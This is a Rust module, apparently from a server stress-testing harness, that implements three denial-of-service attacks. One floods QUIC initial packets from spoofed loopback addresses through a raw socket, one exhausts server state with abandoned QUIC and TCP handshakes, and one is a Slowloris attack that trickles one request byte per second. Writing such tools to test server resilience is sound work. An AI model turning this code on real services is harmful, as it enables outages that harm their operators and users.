//! Those who are never let in: first packets from everywhere, handshakes that nobody goes on with, requests that take
//! for ever.

use super::Attack;
use crate::quic::packet::{CID_BYTES, first_packet};
use crate::quic::{Manners, Rogue, Stage, random_id, tls};
use crate::run::Tally;
use crate::websocket;
use std::collections::VecDeque;
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};
use transport::raw::RawSocket;

/// A half-open connection is forgotten after this: by then a server should have forgotten it as well.
const HELD: Duration = Duration::from_secs(6);
/// One in so many half-open connections is TCP.
const TCP_ONE_IN: u64 = 10;
/// Between two bytes of one slow request.
const SLOW: Duration = Duration::from_secs(1);

/// First packets of QUIC, each valid and from another address: nobody is there.
///
/// The addresses are all of the network 127: the kernel sends from any of them. Answers come back to the one socket
/// and are counted, as a victim would see them.
pub struct Initials {
    socket: RawSocket,
    server: SocketAddr,
    /// The id in the hello and in every header: a server refuses at once who is not of one mind about it.
    from: [u8; CID_BYTES],
    hello: Vec<u8>,
    n: u32,
    tally: Tally,
}

impl Initials {
    /// Opens the socket.
    ///
    /// # Errors
    /// When the system does not.
    pub fn new(server: SocketAddr) -> io::Result<Self> {
        let socket = RawSocket::bind((Ipv4Addr::UNSPECIFIED, 0).into())?;
        let from = random_id();
        Ok(Self { socket, server, from, hello: tls::hello(&from), n: 0, tally: Tally::default() })
    }
}

impl Attack for Initials {
    fn act(&mut self, _now: Instant, n: u64) -> io::Result<()> {
        for _ in 0..n {
            self.n = self.n.wrapping_add(1);
            let [_, b, c, d] = self.n.wrapping_mul(40_503).to_be_bytes();
            let from = IpAddr::V4(Ipv4Addr::new(127, 1 + b % 250, c, 1 + d % 250));
            let packet = first_packet(&random_id(), &self.from, &self.hello);
            self.tally.bytes_out += packet.len() as u64;
            self.tally.n_out += self.socket.push_from(Some(from), self.server, &packet);
        }
        self.tally.n_out += self.socket.flush();
        let bytes_in = &mut self.tally.bytes_in;
        self.tally.n_in += self.socket.drain(|bytes| *bytes_in += bytes.len() as u64);
        Ok(())
    }

    fn tally(&self) -> Tally {
        self.tally
    }
}

enum Half {
    Quic(Box<Rogue>),
    Tcp(TcpStream),
}

/// Connections of both links that are begun and left as they are.
pub struct HalfOpen {
    server: SocketAddr,
    open: VecDeque<(Instant, Half)>,
    tally: Tally,
}

impl HalfOpen {
    /// Nobody yet.
    #[must_use]
    pub fn new(server: SocketAddr) -> Self {
        Self { server, open: VecDeque::new(), tally: Tally::default() }
    }
}

impl Attack for HalfOpen {
    fn act(&mut self, now: Instant, n: u64) -> io::Result<()> {
        for _ in 0..n {
            self.tally.n_dialled += 1;
            // Mostly QUIC, which costs a server more.
            let half = if self.tally.n_dialled.is_multiple_of(TCP_ONE_IN) {
                match websocket::connect(self.server, true) {
                    Ok(stream) => Half::Tcp(stream),
                    // Turned away already.
                    Err(_) => continue,
                }
            } else {
                let manners = Manners { acks: false, finishes: false };
                Half::Quic(Box::new(Rogue::dial(self.server, manners, now)?))
            };
            self.open.push_back((now, half));
        }
        for (_, half) in &mut self.open {
            if let Half::Quic(rogue) = half
                && !rogue.has_heard()
            {
                rogue.work(now);
            }
        }
        while self.open.front().is_some_and(|(begun, _)| now.duration_since(*begun) > HELD) {
            self.open.pop_front();
            self.tally.n_closed += 1;
        }
        self.tally.n_open = self.open.iter().filter(|(_, half)| half.is_kept()).count() as u64;
        Ok(())
    }

    fn tally(&self) -> Tally {
        self.tally
    }
}

impl Half {
    /// Whether the server keeps something for it, as far as can be seen from here.
    fn is_kept(&self) -> bool {
        match self {
            Self::Quic(rogue) => rogue.has_heard() && rogue.stage != Stage::Closed,
            Self::Tcp(stream) => {
                matches!(stream.peek(&mut [0]), Err(error) if error.kind() == io::ErrorKind::WouldBlock)
            }
        }
    }
}

/// Requests of which a byte comes per second.
pub struct Slowloris {
    server: SocketAddr,
    request: Vec<u8>,
    /// Stream, bytes said, and when the next one is due.
    open: VecDeque<(TcpStream, usize, Instant)>,
    n_wanted: usize,
    tally: Tally,
}

impl Slowloris {
    /// With so many connections.
    #[must_use]
    pub fn new(server: SocketAddr, n_wanted: usize) -> Self {
        let (request, open) = (websocket::request().into_bytes(), VecDeque::new());
        Self { server, request, open, n_wanted, tally: Tally::default() }
    }
}

impl Attack for Slowloris {
    fn act(&mut self, now: Instant, n: u64) -> io::Result<()> {
        for _ in 0..n {
            if self.open.len() < self.n_wanted {
                self.tally.n_dialled += 1;
                if let Ok(stream) = websocket::connect(self.server, true) {
                    self.open.push_back((stream, 0, now));
                }
            }
            let Some((mut stream, said, due)) = self.open.pop_front() else { continue };
            if now < due {
                self.open.push_front((stream, said, due));
                break;
            }
            // Anything but "nothing yet" is the end.
            let is_over = !matches!(stream.read(&mut [0; 256]), Err(error) if error.kind() == io::ErrorKind::WouldBlock);
            let is_said = !is_over && stream.write_all(&self.request[said..=said]).is_ok();
            if is_said {
                self.tally.n_out += 1;
                self.tally.bytes_out += 1;
                self.open.push_back((stream, (said + 1) % self.request.len(), due + SLOW));
            } else {
                self.tally.n_closed += 1;
            }
        }
        self.tally.n_open = self.open.len() as u64;
        Ok(())
    }

    fn tally(&self) -> Tally {
        self.tally
    }
}
